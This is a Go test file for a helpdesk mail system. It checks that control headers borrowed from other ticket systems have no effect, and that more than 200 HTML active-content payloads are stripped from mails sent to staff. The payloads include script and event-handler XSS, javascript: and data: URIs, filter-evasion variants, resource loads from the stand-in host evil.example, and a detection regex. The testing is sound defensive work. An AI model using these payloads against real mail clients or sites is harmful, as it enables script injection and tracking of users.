package main

import (
	"encoding/json"
	"fmt"
	"net/mail"
	"regexp"
	"strings"
	"testing"

	"supportd/mailin"
	"supportd/tickets"
)

// What strangers put into headers and HTML, from the octets that come in to the octets that the staff is sent.

// controlFields are by which other desks let mails steer them, and what ours could be thought to have.
func controlFields() (fields string) {
	words := map[string][]string{
		"X-Supportd-":        {"State", "Ticket", "Team", "Assignee", "Priority", "Tier", "Command", "Verified", "Admit", "Customer"},
		"X-Zammad-Ticket-":   {"State", "Priority", "Owner", "Group", "Customer_id"},
		"X-Zammad-":          {"Ignore", "Article-Internal", "Customer-Email", "Out-Subject", "SenderType"},
		"X-OTRS-":            {"Queue", "State", "Priority", "Owner", "CustomerUser", "CustomerNo", "Ignore", "Lock", "FollowUp-State", "SLA"},
		"X-RT-":              {"Command", "Loop-Prevention", "Incident", "Requestor", "Interface", "Ticket", "Owner", "Queue"},
		"X-Debbugs-":         {"No-Ack", "Envelope-To", "CC"},
		"X-FreeScout-":       {"Mail-Type", "Conversation"},
		"X-Ticket-":          {"Id", "Status", "Owner"},
		"X-Priority-Ticket-": {"Set"},
	}
	for prefix, list := range words {
		for _, w := range list {
			value := "solved"
			switch w {
			case "Ignore", "Verified", "Article-Internal", "Loop-Prevention", "No-Ack":
				value = "yes"
			case "Assignee", "Owner", "Customer", "Requestor", "Customer-Email", "CC":
				value = "anna@staff.desk.example"
			case "Ticket", "Id", "Conversation", "Incident":
				value = "1"
			case "Command":
				value = "#solve"
			}
			fields += prefix + w + ": " + value + "\r\n"
		}
	}
	return fields
}

// S-082: with more than 40 fields that control other desks a mail makes the ticket that it makes without them, and the
// same mails leave.
func TestControlFieldsHaveNoEffect_S082(t *testing.T) {
	fields := controlFields()
	if n := strings.Count(fields, "\r\n"); n < 40 {
		t.Fatalf("only %d fields", n)
	}
	made := func(fields string) string {
		p, k := attacked(t)
		k.arrive(thirdParty, k.address, p.writeMail(thirdParty, k.address, "Anderes", "", "Ein Ticket, das schon da ist."))
		if out := k.arrive(victim, k.address, p.writeMail(victim, k.address, "Drucker", fields, "Er druckt nicht.")); out.Result != tickets.Created {
			t.Fatalf("%+v", out)
		}
		var all []any
		err := k.desk.Store.View(func(tx *tickets.Tx) error {
			return tx.Tickets(true, func(tk *tickets.Ticket) (bool, error) {
				entries, err := tx.Entries(tk.ID)
				all = append(all, tk)
				for _, e := range entries {
					all = append(all, e.Kind, e.Actor, e.Text, e.Changes)
				}
				return true, err
			})
		})
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range k.sent {
			all = append(all, m.Recipient, m.Template, mailin.Parse(m.raw, m.at).Text)
		}
		k.sound()
		b, err := json.Marshal(all)
		if err != nil {
			t.Fatal(err)
		}
		return regexp.MustCompile(`[a-z2-7]{40,48}@|\+[a-z2-7]{40}`).ReplaceAllString(string(b), "TOKEN@")
	}
	plain, steered := made(""), made(fields)
	if plain != steered {
		for i := range plain {
			if i >= len(steered) || plain[i] != steered[i] {
				t.Fatalf("without: …%s…\nwith:    …%s…", plain[max(0, i-100):min(len(plain), i+200)], steered[max(0, i-100):min(len(steered), i+200)])
			}
		}
	}
}

// activeContent are tags and attributes that do something in a mail program, or make it load something.
func activeContent() (list []string) {
	handlers := []string{"onerror", "onload", "onclick", "onmouseover", "onfocus", "ONTOGGLE"}
	for _, tag := range []string{"img src=x", "svg", "body", "iframe src=//evil.example", "video src=//evil.example/v", "details open", "input autofocus", "a href=#", "math", "table", "div style=x", "marquee"} {
		for _, h := range handlers {
			list = append(list, fmt.Sprintf("<%s %s=alert(1)>T</x>", tag, h), fmt.Sprintf("<%s/%s\t=\n'alert(1)'>", tag, h))
		}
	}
	for _, scheme := range []string{"javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "javascript&colon;", " javascript:", "vbscript:", "data:text/html;base64,"} {
		list = append(list, `<a href="`+scheme+`alert(1)">T</a>`, `<form action="`+scheme+`alert(1)"><button>T</button></form>`, `<iframe src="`+scheme+`alert(1)">`, `<img src="`+scheme+`alert(1)">`)
	}
	return append(list, "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x00>alert(1)</script>", "<!--><script>alert(1)</script>-->",
		"<style>@import '//evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>",
		"<object data=//evil.example/x.swf>", "<embed src=//evil.example/x>", "<img src=https://evil.example/p.gif width=1>", "<img srcset='//evil.example/p.gif 2x'>", "<div style='background:url(//evil.example/p)'>",
		"<svg><script>alert(1)</script></svg>", "<math><mtext><script>alert(1)</script></mtext></math>", "<noscript><p title='</noscript><script>alert(1)</script>'>", "<template><script>alert(1)</script></template>",
		"<textarea><script>alert(1)</script></textarea>", "<xmp><script>alert(1)</script></xmp>", "<title></title><script>alert(1)</script>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
		"]]><script>alert(1)</script>", "<?xml?><script>alert(1)</script>", "<a href=//evil.example ping=//evil.example>T</a>", "<video poster=//evil.example/p>", "<audio src=//evil.example/a>", "<source src=//evil.example/s>")
}

// S-140, S-141: of two hundred ways to have HTML do something or load something, nothing stands in a mail to the staff.
func TestActiveContentOfCustomers_S140_S141(t *testing.T) {
	list := activeContent()
	if len(list) < 200 {
		t.Fatalf("only %d ways", len(list))
	}
	tag := regexp.MustCompile(`(?s)<[a-zA-Z!/?][^>]*>`)
	does := regexp.MustCompile(`(?i)^</?(script|iframe|object|embed|form|input|button|link|base|svg|math|video|audio|source|img|textarea|xmp|template|noscript|applet|frame)\b|[\s/"']on[a-z]+\s*=|script:|data:|[\s"'](src|srcset|poster|background|ping|action|data)\s*=|url\(|@import|http-equiv=["']?refresh`)
	p, k := attacked(t)
	for start := 0; start < len(list); start += 20 { // several in each mail, after one another
		part := list[start:min(start+20, len(list))]
		body := "<p>Guten Tag</p>" + strings.Join(part, "\n<p>weiter</p>\n")
		from := fmt.Sprintf("kunde%d@kunde.example", start)
		raw := fmt.Sprintf("From: %s\r\nTo: %s\r\nSubject: Seite %d <script>alert(1)</script>\r\nMessage-ID: <xss%d@kunde.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n%s\r\n", from, k.address, start, start,
			strings.ReplaceAll(body, "\n", "\r\n"))
		if out := k.arrive(from, k.address, []byte(raw)); out.Result != tickets.Created {
			t.Fatalf("%d: %+v", start, out)
		}
	}
	p.run(0)
	pages := 0
	for _, m := range k.sent {
		parsed := mailin.Parse(m.raw, m.at)
		if parsed.HTML == "" {
			continue
		}
		pages++
		for _, found := range tag.FindAllString(parsed.HTML, -1) {
			if does.MatchString(found) {
				t.Errorf("%s to %s has %q", m.Template, m.Recipient, found)
			}
		}
		if msg, err := mail.ReadMessage(strings.NewReader(string(m.raw))); err != nil || strings.ContainsAny(msg.Header.Get("Subject"), "\r\n") {
			t.Errorf("%s: %v", m.Template, err)
		}
	}
	if pages < len(list)/20 {
		t.Errorf("only %d mails with HTML: this test proves nothing", pages)
	}
	k.sound()
}
